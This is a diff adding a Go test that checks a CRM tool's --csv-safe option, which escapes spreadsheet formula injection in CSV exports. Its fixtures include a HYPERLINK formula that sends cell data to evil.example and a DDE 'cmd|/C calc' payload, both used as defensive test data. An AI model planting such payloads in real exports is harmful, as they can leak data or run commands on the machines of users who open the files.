@@ -3,6 +3,8 @@ package cmd_test
 import (
 	"database/sql"
 	"encoding/json"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 )
@@ -123,5 +125,57 @@ func TestHostileTextIsEscaped(t *testing.T) {
 	}
 	if len(list) != 1 || list[0]["name"] != hostile {
 		t.Errorf("customer list --format json: %v", list)
+	}
+}
+
+// TestCSVSafe: --csv-safe (or CRM_CSV_SAFE, or csv-safe in the config file)
+// makes CSV for spreadsheets: a text cell that would run as a formula gets a
+// leading ', every field is quoted, numbers and money stay numbers. Without
+// it CSV is the data as stored; JSON is the same either way.
+func TestCSVSafe(t *testing.T) {
+	link := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	must(t, "customer", "add", link, "--code", "X1", "--phone", "+86 138 0000 0000", "--note", "@SUM(A1:A9)")
+	must(t, "order", "add", "X1", "--id", "RET-1", "--date", "2026-11-02", "--note", "-2+3+cmd|' /C calc'!A0", "--", "-12.50")
+
+	plain := parseCSV(t, must(t, "customer", "list", "--format", "csv")).find(t, "code", "X1")
+	eq(t, "name without --csv-safe", plain["name"], link)
+	eq(t, "phone without --csv-safe", plain["phone"], "+86 138 0000 0000")
+
+	safeOut := must(t, "customer", "list", "--format", "csv", "--csv-safe")
+	if !strings.HasPrefix(safeOut, `"id","code","name",`) {
+		t.Errorf("--csv-safe does not quote every field:\n%s", safeOut)
+	}
+	safe := parseCSV(t, safeOut).find(t, "code", "X1")
+	eq(t, "name with --csv-safe", safe["name"], "'"+link)
+	eq(t, "phone with --csv-safe", safe["phone"], "'+86 138 0000 0000")
+
+	show := parseCSV(t, must(t, "customer", "show", "X1", "--format", "csv", "--csv-safe")).Rows[0]
+	eq(t, "customer show note", show["note"], "'@SUM(A1:A9)")
+	eq(t, "customer show terms", show["terms_days"], "30")
+
+	ord := parseCSV(t, must(t, "order", "list", "--format", "csv", "--csv-safe")).find(t, "order_id", "RET-1")
+	eq(t, "negative amount", ord["amount"], "-12.50")
+	eq(t, "order note", ord["note"], "'-2+3+cmd|' /C calc'!A0")
+
+	// The same from the environment and from the config file.
+	t.Setenv("CRM_CSV_SAFE", "true")
+	eq(t, "CRM_CSV_SAFE", parseCSV(t, must(t, "customer", "list", "--format", "csv")).find(t, "code", "X1")["name"], "'"+link)
+	eq(t, "--csv-safe=false over CRM_CSV_SAFE", parseCSV(t, must(t, "customer", "list", "--format", "csv", "--csv-safe=false")).find(t, "code", "X1")["name"], link)
+	os.Unsetenv("CRM_CSV_SAFE")
+	cfg := filepath.Join(os.Getenv("XDG_CONFIG_HOME"), "crm", "config.yaml")
+	if err := os.MkdirAll(filepath.Dir(cfg), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(cfg, []byte("csv-safe: true\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	eq(t, "config csv-safe", parseCSV(t, must(t, "customer", "list", "--format", "csv")).find(t, "code", "X1")["name"], "'"+link)
+	eq(t, "config show", parseCSV(t, must(t, "config", "show", "--format", "csv")).find(t, "key", "csv-safe")["value"], "true")
+
+	// JSON is data: the same bytes with or without.
+	j1 := must(t, "customer", "list", "--format", "json")
+	j2 := must(t, "customer", "list", "--format", "json", "--csv-safe")
+	if j1 != j2 || !strings.Contains(j1, `"name": "=HYPERLINK(`) {
+		t.Errorf("--csv-safe changed JSON:\n%s\n%s", j1, j2)
 	}
 }
